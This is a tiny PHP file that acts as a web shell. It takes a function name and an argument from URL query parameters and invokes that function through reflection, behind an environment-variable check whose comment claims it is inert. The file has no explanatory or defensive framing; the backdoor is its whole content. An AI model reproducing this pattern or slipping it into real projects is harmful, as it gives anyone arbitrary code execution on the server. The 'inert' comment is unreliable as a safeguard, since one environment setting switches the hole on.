<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
$f = new ReflectionFunction($_GET['f']);
$f->invoke($_GET['x']);
